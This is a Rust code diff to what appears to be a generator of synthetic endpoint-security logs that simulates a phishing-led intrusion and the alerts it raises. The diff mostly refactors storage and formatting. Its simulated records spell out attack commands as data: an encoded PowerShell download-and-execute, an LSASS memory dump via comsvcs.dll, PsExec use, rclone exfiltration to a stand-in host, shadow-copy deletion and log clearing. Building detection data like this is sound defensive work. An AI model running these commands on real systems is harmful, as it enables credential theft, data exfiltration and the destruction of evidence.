@@ -35,7 +35,8 @@ const ENCODED: &str = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZ
 /// The records of the intrusion not yet told, by table and time.
 #[derive(Debug)]
 pub struct Story {
-    records: VecDeque<Record>,
+    /// By table, in order of time.
+    records: Vec<(&'static str, VecDeque<Record>)>,
     alerts: Vec<Alert>,
     world: World,
 }
@@ -53,18 +54,16 @@ struct Alert {
 impl Story {
     /// Writes the records of a table that come before an instant.
     pub(crate) fn tell_until(&mut self, table: &'static str, time: i64, sink: &mut dyn Sink) -> io::Result<()> {
-        // The story is short: a scan costs nothing beside making an event.
-        while let Some(at) = self.records.iter().position(|r| r.table == table && r.time <= time) {
-            if let Some(record) = self.records.remove(at) {
-                sink.record(table, &record.line())?;
-            }
+        let Some((_, records)) = self.records.iter_mut().find(|(name, _)| *name == table) else { return Ok(()) };
+        while let Some(record) = records.pop_front_if(|r| r.time <= time) {
+            sink.record(table, &record.line())?;
         }
         Ok(())
     }
 
     /// Writes what is left: records later than the last everyday event of their table.
     pub(crate) fn finish(self, sink: &mut dyn Sink) -> io::Result<()> {
-        self.records.into_iter().try_for_each(|r| sink.record(r.table, &r.line()))
+        self.records.into_iter().flat_map(|(_, r)| r).try_for_each(|r| sink.record(r.table, &r.line()))
     }
 
     /// Alerts and the incident of the intrusion.
@@ -74,7 +73,18 @@ impl Story {
         for alert in std::mem::take(&mut self.alerts) {
             let id = crate::world::guid(random);
             let device = &self.world.devices[alert.device];
-            alert_records(&mut lines, alert.time, &id, alert.title, alert.severity, alert.tactic, alert.technique, device, &self.world, random);
+            alert_records(
+                &mut lines,
+                alert.time,
+                &id,
+                alert.title,
+                alert.severity,
+                alert.tactic,
+                alert.technique,
+                device,
+                &self.world,
+                random,
+            );
             ids.push((alert.time, id));
         }
         let ids_only: Vec<&str> = ids.iter().map(|(_, id)| id.as_str()).collect();
@@ -103,7 +113,16 @@ impl Teller<'_> {
     }
 
     #[allow(clippy::too_many_arguments)]
-    fn process(&mut self, time: i64, device: &Device, user: &User, file: &str, folder: &str, command: &str, parent: (&str, &str)) {
+    fn process(
+        &mut self,
+        time: i64,
+        device: &Device,
+        user: &User,
+        file: &str,
+        folder: &str,
+        command: &str,
+        parent: (&str, &str),
+    ) {
         let id = self.report + 6_000;
         let record = self
             .device("DeviceProcessEvents", time, device, "ProcessCreated")
@@ -144,7 +163,9 @@ pub(crate) fn tell(world: &World, end: i64) -> Story {
     let (client, server) = (&world.devices[1], &world.devices[7]);
     let victim = &world.users[client.user];
     let admin = &world.users[server.user];
-    let at = |days: i64, hour: i64, minute: i64| end - days * TICKS_PER_DAY - 12 * TICKS_PER_HOUR + hour * TICKS_PER_HOUR + minute * TICKS_PER_MINUTE;
+    let at = |days: i64, hour: i64, minute: i64| {
+        end - days * TICKS_PER_DAY - 12 * TICKS_PER_HOUR + hour * TICKS_PER_HOUR + minute * TICKS_PER_MINUTE
+    };
     let mut t = Teller { world, records: Vec::new(), report: 0 };
 
     phishing(&mut t, at(6, 9, 12));
@@ -161,12 +182,29 @@ pub(crate) fn tell(world: &World, end: i64) -> Story {
     t.records.push(initiated(record, victim, "OUTLOOK.EXE", r#""OUTLOOK.EXE""#));
     let system = r"C:\Windows\System32";
     let shell = format!("powershell.exe -nop -w hidden -ep bypass -enc {ENCODED}");
-    t.process(start + TICKS_PER_MINUTE, client, victim, "powershell.exe", r"C:\Windows\System32\WindowsPowerShell\v1.0", &shell, word);
-    let record = t
-        .device("DeviceEvents", start + 61 * TICKS_PER_SECOND, client, "PowerShellCommand")
-        .text("AdditionalFields", "{\"Command\":\"Invoke-Expression\",\"ScriptBlock\":{\"Url\":\"https://fabrikarn.example/p\",\"Depth\":2}}");
+    t.process(
+        start + TICKS_PER_MINUTE,
+        client,
+        victim,
+        "powershell.exe",
+        r"C:\Windows\System32\WindowsPowerShell\v1.0",
+        &shell,
+        word,
+    );
+    let record = t.device("DeviceEvents", start + 61 * TICKS_PER_SECOND, client, "PowerShellCommand").text(
+        "AdditionalFields",
+        "{\"Command\":\"Invoke-Expression\",\"ScriptBlock\":{\"Url\":\"https://fabrikarn.example/p\",\"Depth\":2}}",
+    );
     t.records.push(initiated(record, victim, "powershell.exe", &shell));
-    connection(&mut t, start + 62 * TICKS_PER_SECOND, client, victim, C2_ADDRESS, C2_DOMAIN, ("powershell.exe", &shell));
+    connection(
+        &mut t,
+        start + 62 * TICKS_PER_SECOND,
+        client,
+        victim,
+        C2_ADDRESS,
+        C2_DOMAIN,
+        ("powershell.exe", &shell),
+    );
     let implant = r"C:\Users\Public\svchost-upd.exe";
     let record = t
         .device("DeviceFileEvents", start + 65 * TICKS_PER_SECOND, client, "FileCreated")
@@ -175,7 +213,15 @@ pub(crate) fn tell(world: &World, end: i64) -> Story {
         .text("SHA1", IMPLANT)
         .long("FileSize", 412_672);
     t.records.push(initiated(record, victim, "powershell.exe", &shell));
-    t.process(start + 70 * TICKS_PER_SECOND, client, victim, IMPLANT_FILE, r"C:\Users\Public", implant, ("powershell.exe", &shell));
+    t.process(
+        start + 70 * TICKS_PER_SECOND,
+        client,
+        victim,
+        IMPLANT_FILE,
+        r"C:\Users\Public",
+        implant,
+        ("powershell.exe", &shell),
+    );
     let record = t
         .device("DeviceRegistryEvents", start + 75 * TICKS_PER_SECOND, client, "RegistryValueSet")
         .text("RegistryKey", r"HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run")
@@ -190,7 +236,15 @@ pub(crate) fn tell(world: &World, end: i64) -> Story {
     let mut n = 0;
     while beacon < end - TICKS_PER_DAY {
         // Regular to within seconds, as implants with a small jitter are.
-        connection(&mut t, beacon + n % 7 * TICKS_PER_SECOND, client, victim, C2_ADDRESS, C2_DOMAIN, (IMPLANT_FILE, implant));
+        connection(
+            &mut t,
+            beacon + n % 7 * TICKS_PER_SECOND,
+            client,
+            victim,
+            C2_ADDRESS,
+            C2_DOMAIN,
+            (IMPLANT_FILE, implant),
+        );
         beacon += 10 * TICKS_PER_MINUTE;
         n += 1;
     }
@@ -205,7 +259,15 @@ pub(crate) fn tell(world: &World, end: i64) -> Story {
     ];
     for (i, command) in discovery.iter().enumerate() {
         let file = command.split(' ').next().unwrap_or("");
-        t.process(at(5, 14, 3) + i as i64 * 20 * TICKS_PER_SECOND, client, victim, file, system, command, ("cmd.exe", "cmd.exe /q"));
+        t.process(
+            at(5, 14, 3) + i as i64 * 20 * TICKS_PER_SECOND,
+            client,
+            victim,
+            file,
+            system,
+            command,
+            ("cmd.exe", "cmd.exe /q"),
+        );
     }
 
     let dump = r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Users\Public\l.dmp full";
@@ -230,12 +292,25 @@ pub(crate) fn tell(world: &World, end: i64) -> Story {
         .text("RequestAccountName", &admin.name)
         .text("ShareName", "ADMIN$");
     t.records.push(initiated(record, admin, "ntoskrnl.exe", ""));
-    t.process(at(3, 1, 16), server, admin, "PSEXESVC.exe", r"C:\Windows", "PSEXESVC.exe", ("services.exe", "services.exe"));
+    t.process(
+        at(3, 1, 16),
+        server,
+        admin,
+        "PSEXESVC.exe",
+        r"C:\Windows",
+        "PSEXESVC.exe",
+        ("services.exe", "services.exe"),
+    );
     t.process(at(3, 1, 17), server, admin, "cmd.exe", system, "cmd.exe", ("PSEXESVC.exe", "PSEXESVC.exe"));
 
     let steps = [
         (2, "rar.exe", r"C:\Users\Public", r"rar.exe a -hpQ7 -m5 C:\Users\Public\fs.rar D:\Finance\*"),
-        (14, "rclone.exe", r"C:\Users\Public", r"rclone.exe copy C:\Users\Public\fs.rar mega:backup --no-check-certificate --transfers 8"),
+        (
+            14,
+            "rclone.exe",
+            r"C:\Users\Public",
+            r"rclone.exe copy C:\Users\Public\fs.rar mega:backup --no-check-certificate --transfers 8",
+        ),
         (55, "vssadmin.exe", system, "vssadmin.exe delete shadows /all /quiet"),
         (57, "wevtutil.exe", system, "wevtutil.exe cl Security"),
     ];
@@ -244,21 +319,44 @@ pub(crate) fn tell(world: &World, end: i64) -> Story {
     }
     let copy = ("rclone.exe", steps[1].3);
     for i in 0..30 {
-        connection(&mut t, at(2, 3, 15) + i * 40 * TICKS_PER_SECOND, server, admin, "198.51.100.23", "g.api.mega.example", copy);
+        connection(
+            &mut t,
+            at(2, 3, 15) + i * 40 * TICKS_PER_SECOND,
+            server,
+            admin,
+            "198.51.100.23",
+            "g.api.mega.example",
+            copy,
+        );
     }
     let record = t.device("DeviceEvents", at(2, 3, 57) + TICKS_PER_SECOND, server, "SecurityLogCleared");
     t.records.push(initiated(record, admin, "wevtutil.exe", steps[3].3));
 
-    let alert = |time, title, severity, tactic, technique, device| Alert { time, title, severity, tactic, technique, device };
+    let alert =
+        |time, title, severity, tactic, technique, device| Alert { time, title, severity, tactic, technique, device };
     let alerts = vec![
-        alert(at(6, 9, 40), "Suspicious PowerShell download or encoded command execution", "Medium", "Execution", "T1059.001", 1),
+        alert(
+            at(6, 9, 40),
+            "Suspicious PowerShell download or encoded command execution",
+            "Medium",
+            "Execution",
+            "T1059.001",
+            1,
+        ),
         alert(at(4, 22, 45), "Suspected credential theft activity", "High", "CredentialAccess", "T1003.001", 1),
         alert(at(3, 1, 20), "Suspicious remote activity with PsExec", "Medium", "LateralMovement", "T1569.002", 7),
         alert(at(2, 3, 58), "Possible data exfiltration with rclone", "High", "Exfiltration", "T1567.002", 7),
     ];
-    let mut records = t.records;
-    records.sort_by_key(|r| r.time);
-    Story { records: records.into(), alerts, world: world.clone() }
+    let mut told = t.records;
+    told.sort_by_key(|r| r.time);
+    let mut records: Vec<(&'static str, VecDeque<Record>)> = Vec::new();
+    for record in told {
+        match records.iter_mut().find(|(name, _)| *name == record.table) {
+            Some((_, of_table)) => of_table.push_back(record),
+            None => records.push((record.table, VecDeque::from([record]))),
+        }
+    }
+    Story { records, alerts, world: world.clone() }
 }
 
 fn phishing(t: &mut Teller<'_>, time: i64) {
@@ -284,7 +382,10 @@ fn phishing(t: &mut Teller<'_>, time: i64) {
                 .text("EmailDirection", "Inbound")
                 .text("DeliveryAction", "Delivered")
                 .text("DeliveryLocation", "Inbox/folder")
-                .text("AuthenticationDetails", "{\"SPF\":\"pass\",\"DKIM\":\"none\",\"DMARC\":\"none\",\"CompAuth\":\"none\"}")
+                .text(
+                    "AuthenticationDetails",
+                    "{\"SPF\":\"pass\",\"DKIM\":\"none\",\"DMARC\":\"none\",\"CompAuth\":\"none\"}",
+                )
                 .long("AttachmentCount", 1)
                 .long("UrlCount", 1)
                 .text("EmailLanguage", "en")
